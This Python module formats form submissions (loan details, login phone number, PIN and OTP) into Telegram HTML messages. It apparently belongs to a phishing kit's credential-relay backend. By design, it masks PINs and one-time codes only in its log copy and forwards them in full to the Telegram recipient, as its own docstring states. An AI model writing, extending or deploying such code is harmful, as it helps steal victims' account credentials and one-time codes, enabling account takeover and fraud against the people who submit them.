"""
Formatting helpers for submission payloads sent to Telegram with parse_mode=HTML.

Values are stringified, escaped for the four HTML-significant characters Telegram
cares about (``& < > "``) and cut down when they would blow up the message.
Secrets are masked only in the copy used for logging; the outbound message
keeps them as submitted.
"""

import json
from decimal import Decimal
from typing import Any

TRUNCATE_AT = 800
TRUNCATION_MARKER = "…(truncated)"

# Keys rendered in their own sections, never under "Other"
KNOWN_KEYS = ("loanData", "submittedAt", "loginPhone", "loginPin", "otp")

MASKED_KEYS = ("loginPin", "otp")
MASKED_LOAN_KEYS = ("loginPin", "pin", "otp")


def format_float(val: float) -> str:
    """
    Render a float the way JSON producers write numbers.

    Integral values drop the ``.0``; exponents lose their zero padding and only
    appear below 1e-6 or from 1e21 up.
    """
    if val.is_integer() and abs(val) < 1e21:
        return str(int(val))
    text = repr(val)
    if "e" not in text:
        return text
    mantissa, exponent = text.split("e")
    if -6 <= int(exponent) < 21:
        return format(Decimal(text), "f")
    return f"{mantissa}e{int(exponent):+d}"


def stringify(val: Any) -> str:
    """
    Turn a decoded JSON value into display text.

    - ``None`` becomes an empty string, booleans are lower-cased like JSON.
    - Lists of primitives are joined with ", ".
    - Anything nested falls back to compact JSON.
    """
    if val is None:
        return ""
    if isinstance(val, bool):
        return "true" if val else "false"
    if isinstance(val, float):
        return format_float(val)
    if not isinstance(val, (dict, list)):
        return str(val)
    if isinstance(val, list) and all(not isinstance(v, (dict, list)) for v in val):
        return ", ".join(stringify(v) for v in val)
    try:
        return json.dumps(val, ensure_ascii=False, default=str)
    except (TypeError, ValueError):
        return "[complex value]"


def escape_html(val: Any) -> str:
    return (
        stringify(val)
        .replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(">", "&gt;")
        .replace('"', "&quot;")
    )


def shorten(val: Any, limit: int = TRUNCATE_AT) -> str:
    """Escape *val*, keeping only the first *limit* characters and marking the cut."""
    text = stringify(val)
    if len(text) > limit:
        return escape_html(text[:limit]) + TRUNCATION_MARKER
    return escape_html(text)


def mask(val: Any) -> Any:
    """Hide all but the last two characters. Falsy values are returned as-is."""
    if not val:
        return val
    text = stringify(val)
    if len(text) <= 2:
        return "*" * len(text)
    return "*" * (len(text) - 2) + text[-2:]


def mask_payload(payload: dict) -> dict:
    """Copy of *payload* safe to log: PINs and OTPs masked, one level into loanData too."""
    logged = dict(payload)
    for key in MASKED_KEYS:
        if logged.get(key):
            logged[key] = mask(logged[key])

    loan = logged.get("loanData")
    if isinstance(loan, dict):
        loan = dict(loan)
        for key in MASKED_LOAN_KEYS:
            if loan.get(key):
                loan[key] = mask(loan[key])
        logged["loanData"] = loan
    return logged


def build_message(payload: dict) -> str:
    """Render a submission as Telegram HTML. Section order is fixed."""
    text = "<b>New Submission Received</b>\n\n"

    if payload.get("submittedAt"):
        text += f"<b>Time:</b> {escape_html(payload['submittedAt'])}\n\n"

    loan = payload.get("loanData")
    if isinstance(loan, dict):
        text += "<b>Loan details:</b>\n"
        for k, v in loan.items():
            text += f"<b>{escape_html(k)}:</b> {shorten(v)}\n"
        text += "\n"

    if payload.get("loginPhone"):
        text += "<b>Login details:</b>\n"
        text += f"<b>Phone:</b> {escape_html(payload['loginPhone'])}\n"
        text += f"<b>PIN:</b> {escape_html(payload.get('loginPin'))}\n"
        # OTP only shows up in confirm flows
        if payload.get("otp"):
            text += f"<b>OTP:</b> {escape_html(payload['otp'])}\n"
        text += "\n"

    extras = {k: v for k, v in payload.items() if k not in KNOWN_KEYS}
    if extras:
        text += "<b>Other:</b>\n"
        for k, v in extras.items():
            text += f"<b>{escape_html(k)}:</b> {shorten(v)}\n"

    return text
